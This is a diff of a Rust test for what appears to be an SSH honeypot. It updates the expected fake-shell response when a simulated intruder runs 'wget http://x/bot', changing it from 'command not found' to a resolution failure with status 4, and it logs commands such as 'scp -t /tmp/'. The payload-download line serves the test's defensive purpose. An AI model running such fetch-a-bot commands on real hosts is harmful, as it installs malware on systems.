@@ -1722,10 +1722,17 @@ fn an_accepted_credential_reaches_a_consistent_fake_host_and_every_command_is_re
     assert!(out.contains("whoami\r\ndeploy\r\n"), "{out}");
     assert!(out.contains("hostname\r\nbuild-07\r\n"), "{out}");
     assert!(out.contains("db: 10.0.4.20\r\n"), "{out}");
-    assert!(out.contains("wget: command not found\r\n"), "{out}");
+    // wget runs and fetches nothing: the name does not resolve.
+    assert!(
+        out.contains(
+            "Resolving x (x)... failed: Name or service not known.\r\n\
+             wget: unable to resolve host address \u{2018}x\u{2019}\r\n"
+        ),
+        "{out}"
+    );
     assert!(out.contains("logout"), "{out}");
     // `exit` passes on the status of the last command, as bash does.
-    assert_eq!(shell[0]["status"], 127);
+    assert_eq!(shell[0]["status"], 4);
 
     // Forwarding and sftp are refused as a server that allows neither refuses them.
     let o = sshpass(
@@ -1849,8 +1856,8 @@ fn an_accepted_credential_reaches_a_consistent_fake_host_and_every_command_is_re
         ("shell", "whoami", 0),
         ("shell", "hostname", 0),
         ("shell", "cat notes.txt", 0),
-        ("shell", "wget http://x/bot", 127),
-        ("shell", "exit", 127),
+        ("shell", "wget http://x/bot", 4),
+        ("shell", "exit", 4),
         ("exec", "scp -t /tmp/", 1),
         ("shell", "exit", 0),
     ]
